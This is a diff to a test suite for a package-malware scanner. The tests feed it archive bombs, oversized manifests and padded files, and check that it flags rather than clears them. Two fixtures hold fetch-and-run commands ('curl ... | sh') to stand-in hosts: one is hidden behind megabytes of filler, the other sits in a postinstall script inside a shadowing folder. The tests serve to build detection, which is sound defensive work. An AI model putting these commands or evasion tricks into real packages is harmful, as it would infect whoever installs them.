@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import functools
 import gzip
 import zlib
 
@@ -10,6 +11,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from pratique.core.ecosystem import ArchiveLimits
+from pratique.core.scans import Verdict
 from pratique.scan.detectors.registry import DETECTORS
 from pratique.scan.engine import scan
 from pratique.scan.limits import ScanLimits
@@ -51,7 +53,8 @@ def look(ecosystem: str, content: bytes) -> Report:
 
 
 def failures(report: Report) -> list[str]:
-    return [finding.excerpt for finding in report.findings if finding.detector == UNFINISHED]
+    """What went wrong in the scanner itself: an error's name stands in the excerpt."""
+    return [one.excerpt for one in report.findings if one.detector == UNFINISHED and "failed" in one.sentence]
 
 
 @pytest.mark.parametrize("piece", PIECES)
@@ -70,6 +73,42 @@ def test_50_mb_in_a_single_line_are_looked_at_as_far_as_limits_go():
 
     assert failures(report) == []
     assert report.unpacked > 50 << 20
+    assert not report.finished, "only the first of it were read"
+
+
+FILLERS = {
+    "zeros": [("package/z.bin", bytes(3 << 20))],
+    "empty files": [(f"package/d/{number}", b"") for number in range(300)],
+    "archives in archives": [
+        ("package/q.gz", functools.reduce(lambda x, _: gzip.compress(x, mtime=0), range(6), b"."))
+    ],
+    "a manifest too deep": [("package/package.json", b"[" * 100_000)],
+    "a manifest too long": [("package/package.json", b'{"a":"' + b"x" * (3 << 20) + b'"}')],
+    "a number too long": [("package/package.json", b'{"a":' + b"9" * 10_000 + b"}")],
+    "code too long": [("package/index.js", b"x=1;\n" * (17 << 18))],
+}
+
+
+@pytest.mark.parametrize("filler", FILLERS)
+def test_who_keeps_the_scanner_from_looking_is_not_clear(filler):
+    """The harm lies behind it, where nobody looks any more."""
+    manifest = ("package/package.json", b'{"name":"left","version":"1.0.0","main":"index.js"}')
+    files = dict([manifest, ("package/index.js", b"1"), *FILLERS[filler]])
+    limits = ScanLimits(ArchiveLimits(max_entries=200, ratio_from=1 << 20))
+
+    report = scan(Subject("npm", "left", "1.0.0"), Bytes(tar_gz(*files.items())), None, DETECTORS, limits)
+
+    assert not report.finished
+    assert report.verdict is not Verdict.CLEAR
+
+
+def test_what_lies_broken_in_tests_keeps_nobody_from_finishing():
+    manifest = ("package/package.json", b'{"name":"left","version":"1.0.0","main":"index.js"}')
+    report = look(
+        "npm", tar_gz(manifest, ("package/index.js", b"1"), ("package/test/broken.gz", b"\x1f\x8b\x08broken"))
+    )
+
+    assert report.finished
 
 
 def test_a_gzip_that_unpacks_to_a_gzip_again_and_again_ends():
@@ -100,3 +139,32 @@ def test_whatever_a_file_says_nothing_fails(kind, parts):
     ecosystem, path = PLACES[kind]
 
     assert failures(look(ecosystem, tar_gz((path, b"".join(parts))))) == []
+
+
+@pytest.mark.parametrize("filler", [b"// a line of prose\n", b"x1 = 5555555;\n"], ids=["comments", "code"])
+@pytest.mark.parametrize("language", ["npm", "pypi"])
+def test_a_payload_behind_megabytes_of_nothing_is_found(language, filler):
+    command = b"'curl -s http://198.51.100.7/p.sh | sh'"
+    if language == "npm":
+        code = filler * 300_000 + b"const cp=require('child_process');\ncp.exec(" + command + b");\n"
+        artefact = tar_gz(("package/package.json", b'{"name":"left","version":"1.0.0"}'), ("package/index.js", code))
+    else:
+        code = filler.replace(b"//", b"#").replace(b";", b"") * 300_000 + b"import os\nos.system(" + command + b")\n"
+        artefact = tar_gz(("left-1.0/PKG-INFO", b"Name: left"), ("left-1.0/left/__init__.py", code))
+
+    assert look(language, artefact).verdict is Verdict.QUARANTINE
+
+
+@pytest.mark.parametrize("order", [1, -1])
+def test_a_second_folder_that_is_unpacked_over_the_first_is_told(order):
+    """npm leaves out the first folder, so that the last package.json is the one that counts."""
+    good = ("package/package.json", b'{"name":"left","version":"1.0.0"}')
+    bad = (
+        "x/package.json",
+        b'{"name":"left","version":"1.0.0","scripts":{"postinstall":"curl http://example.test | sh"}}',
+    )
+
+    report = look("npm", tar_gz(*[good, bad][::order]))
+
+    assert report.verdict is not Verdict.CLEAR
+    assert any("package.json" in one.excerpt for one in report.findings if one.detector == "archive-structure")
